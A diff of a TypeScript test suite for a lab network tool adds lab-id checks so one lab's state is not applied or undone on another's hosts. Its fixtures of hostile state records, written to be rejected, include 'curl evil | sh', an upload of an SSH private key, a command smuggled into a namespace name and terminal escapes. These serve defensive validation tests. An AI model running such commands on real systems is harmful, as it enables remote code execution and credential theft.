@@ -14,7 +14,7 @@ import { FakeTransport } from "../helpers/fake-transport.js";
  * state bookkeeping and fault handling. Nothing here says anything about SSH itself.
  */
 const lab: Lab = (() => {
-  const r = validateText("/labs/eng/lab.yaml", "name: eng\nhosts:\n  a: { address: 10.0.0.1 }\n  b: { address: 10.0.0.2 }\n  c: { address: 10.0.0.3 }\n");
+  const r = validateText("/labs/eng/lab.yaml", "name: eng\nid: eng-lab-1\nhosts:\n  a: { address: 10.0.0.1 }\n  b: { address: 10.0.0.2 }\n  c: { address: 10.0.0.3 }\n");
   if (!r.lab) throw new Error("test lab invalid");
   return r.lab;
 })();
@@ -259,7 +259,7 @@ describe("applyPlan", () => {
 
   it("writes the state after each step that completed an action, keeping what was recorded before", async () => {
     const plan = planFor(["a"]);
-    const before: HostState = { lab: "eng", version: 2, updatedAt: "2024-01-01T00:00:00.000Z", changed: [{ id: "old-step", title: "from an earlier run", undo: [{ kind: "delete-netns", netns: "old" }], at: "2024-01-01T00:00:00.000Z" }] };
+    const before: HostState = { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "2024-01-01T00:00:00.000Z", changed: [{ id: "old-step", title: "from an earlier run", undo: [{ kind: "delete-netns", netns: "old" }], at: "2024-01-01T00:00:00.000Z" }] };
     const fake = hostFake(plan.hosts[0]!, { passing: ["a-i2"], state: before });
     const { result } = await apply(plan, [fake]);
     expect(result.failed).toBe(false);
@@ -275,7 +275,8 @@ describe("applyPlan", () => {
     expect(stateWrites(fake).every((w) => w.mode === "0600")).toBe(true);
     const state = lastState(fake);
     expect(state.lab).toBe("eng");
-    expect(state.version).toBe(2);
+    expect(state.version).toBe(3);
+    expect(state.id).toBe("eng-lab-1");
     expect(state.changed.map((c) => c.id)).toEqual(["old-step", "a-k1", "a-i1", "a-n1"]);
     expect(state.changed[1]).toMatchObject({ id: "a-k1", title: "step a-k1", undo: [{ kind: "promisc-off", dev: "a-k1" }] });
     expect(Number.isNaN(Date.parse(state.changed[1]!.at))).toBe(false);
@@ -283,7 +284,7 @@ describe("applyPlan", () => {
 
   it("a step already recorded is not recorded twice", async () => {
     const plan = planFor(["a"]);
-    const recorded: HostState = { lab: "eng", version: 2, updatedAt: "x", changed: [{ id: "a-k1", title: "step a-k1", undo: [{ kind: "promisc-off", dev: "a-k1" }], at: "then" }] };
+    const recorded: HostState = { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "x", changed: [{ id: "a-k1", title: "step a-k1", undo: [{ kind: "promisc-off", dev: "a-k1" }], at: "then" }] };
     const fake = hostFake(plan.hosts[0]!, { passing: ["a-i1", "a-i2", "a-n1"], state: recorded });
     const { result } = await apply(plan, [fake]);
     expect(statusOf(result)["a-k1"]).toBe("changed");
@@ -368,9 +369,24 @@ describe("applyPlan", () => {
   // changed step then overwrites /var/lib/lab/<lab>.json with only itself, and every change
   // recorded by earlier runs is lost to `lab down`. Expected: the host fails (probe did not
   // complete), or at least the recorded entries are kept.
+  it("another lab with the same name (another id) on a host: lab up changes nothing on any host and says whose state it is", async () => {
+    const plan = planFor(["a", "b"]);
+    const theirs: HostState = { lab: "eng", id: "someone-elses", version: 3, updatedAt: "x", changed: [{ id: "their-step", title: "theirs", undo: [{ kind: "delete-netns", netns: "theirs" }], at: "then" }] };
+    const fakes = [hostFake(plan.hosts[0]!), hostFake(plan.hosts[1]!, { state: theirs })];
+    await expect(apply(plan, fakes)).rejects.toMatchObject({
+      host: "b",
+      exitCode: 1,
+      message: "another lab named eng is on this host (id someone-elses; this lab file has id eng-lab-1); nothing was run on this host. Take that lab down with its own lab file, or give this lab another name",
+    });
+    for (const f of fakes) {
+      expect(f.commands).toHaveLength(1);
+      expect(stateWrites(f)).toEqual([]);
+    }
+  });
+
   it("a probe cut short after the state stops the run before any change, so the recorded state is never lost", async () => {
     const plan = planFor(["a"]);
-    const before: HostState = { lab: "eng", version: 2, updatedAt: "x", changed: [{ id: "old-step", title: "earlier", undo: [{ kind: "delete-netns", netns: "old" }], at: "then" }] };
+    const before: HostState = { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "x", changed: [{ id: "old-step", title: "earlier", undo: [{ kind: "delete-netns", netns: "old" }], at: "then" }] };
     const fake = new FakeTransport("a").on(PROBE, { code: null, timedOut: true, stdout: `--state\n${JSON.stringify(before)}\n` });
     await expect(apply(plan, [fake])).rejects.toThrow(/cannot read the host's current state \(timed out\); nothing was changed here/);
     expect(stateWrites(fake)).toEqual([]);
@@ -398,7 +414,7 @@ describe("undoLab", () => {
   // Each undo is a typed record; promisc-off builds one plain command per record: "ip link set <dev> promisc off".
   const entry = (id: string, ...devs: string[]): HostState["changed"][number] => ({ id, title: `title ${id}`, undo: devs.map((dev) => ({ kind: "promisc-off" as const, dev })), at: "t" });
   const off = (dev: string) => `ip link set ${dev} promisc off`;
-  const stateWith = (...changed: HostState["changed"]): HostState => ({ lab: "eng", version: 2, updatedAt: "t", changed });
+  const stateWith = (...changed: HostState["changed"]): HostState => ({ lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed });
   const READ = "if [ -e /var/lib/lab/eng.json ]; then cat /var/lib/lab/eng.json; fi";
   const CAT = /^if \[ -e \/var\/lib\/lab\/eng\.json \]; then cat /;
   const REMOVE = "rm -rf /var/lib/lab/eng.json /var/lib/lab/eng.backup; rmdir /var/lib/lab 2>/dev/null || true";
@@ -408,7 +424,7 @@ describe("undoLab", () => {
   const undo = async (fakes: FakeTransport[], signal?: AbortSignal) => {
     for (const f of fakes) f.on(LOCK, { stdout: "--locked\n" });
     const { events, rec } = recorder();
-    const outcomes = await undoLab("eng", lab.file, new Map(fakes.map((f) => [f.host, f])), { parallel: 4, events, commandTimeoutMs: 5000, signal });
+    const outcomes = await undoLab(lab, new Map(fakes.map((f) => [f.host, f])), { parallel: 4, events, commandTimeoutMs: 5000, signal });
     return { outcomes, rec };
   };
   const savedStates = (fake: FakeTransport) => fake.writes.filter((w) => w.command === STATE).map((w) => (JSON.parse(w.stdin!) as HostState).changed.map((c) => c.id));
@@ -479,12 +495,13 @@ describe("undoLab", () => {
     const refusedHost = (text: string) => new FakeTransport("evil").on(CAT, { stdout: text });
     const hostile: Record<string, unknown> = {
       "a command string (the old format)": { lab: "eng", version: 1, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "curl evil | sh" }], at: "t" }] },
-      "an upload of the operator's key": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "upload", from: "~/.ssh/id_ed25519", to: "cat > /tmp/k" }], at: "t" }] },
-      "a run record": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "id" }], at: "t" }] },
-      "a name outside the lab grammar": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "delete-netns", netns: "n1; reboot" }], at: "t" }] },
-      "a file lab never writes": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "restore-file", path: "/root/.ssh/authorized_keys" }], at: "t" }] },
-      "terminal escapes in a title": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "\u001b]0;pwned\u0007", undo: [], at: "t" }] },
-      "another lab's state": { lab: "other", version: 2, updatedAt: "t", changed: [] },
+      "an upload of the operator's key": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "upload", from: "~/.ssh/id_ed25519", to: "cat > /tmp/k" }], at: "t" }] },
+      "a run record": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "id" }], at: "t" }] },
+      "a name outside the lab grammar": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "delete-netns", netns: "n1; reboot" }], at: "t" }] },
+      "a file lab never writes": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "restore-file", path: "/root/.ssh/authorized_keys" }], at: "t" }] },
+      "terminal escapes in a title": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "\u001b]0;pwned\u0007", undo: [], at: "t" }] },
+      "another lab's state": { lab: "other", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [] },
+      "a state without a lab id (version 2)": { lab: "eng", version: 2, updatedAt: "t", changed: [] },
       "not JSON": "{ not json",
     };
     for (const [what, content] of Object.entries(hostile)) {
@@ -499,6 +516,28 @@ describe("undoLab", () => {
         expect(outcomes[1]).toEqual({ host: "good", undone: 1, failed: [] });
       });
     }
+  });
+
+  it("another lab with the same name (another id) on one host: nothing is undone there, the other hosts go on", async () => {
+    const theirs = new FakeTransport("shared").on(CAT, { stdout: JSON.stringify({ ...stateWith(entry("e", "theirs")), id: "someone-elses" }) });
+    const good = new FakeTransport("good").on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "g1"))) });
+    const { outcomes } = await undo([theirs, good]);
+    expect(cmds(theirs)).toEqual([READ]);
+    expect(theirs.writes).toEqual([]);
+    expect(outcomes[0]!.refused).toBe(
+      "another lab named eng is on this host (id someone-elses; this lab file has id eng-lab-1); nothing was run on this host. Take that lab down with its own lab file, or give this lab another name",
+    );
+    expect(outcomes[1]).toEqual({ host: "good", undone: 1, failed: [] });
+  });
+
+  it("a lab file without an id never undoes a lab recorded with one: it is told the id to add", async () => {
+    const fake = new FakeTransport("a").on(LOCK, { stdout: "--locked\n" }).on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "u"))) });
+    const { events } = recorder();
+    const outcomes = await undoLab({ name: "eng", file: lab.file }, new Map([["a", fake]]), { parallel: 1, events, commandTimeoutMs: 5000 });
+    expect(cmds(fake)).toEqual([READ]);
+    expect(outcomes[0]!.refused).toBe(
+      "the lab eng on this host has id eng-lab-1 and this lab file has none; nothing was run on this host. If it is that lab, add `id: eng-lab-1` under name: in the lab file",
+    );
   });
 
   it("a host where the state cannot be read (sudo refused) is a failure, not 'nothing to undo'", async () => {
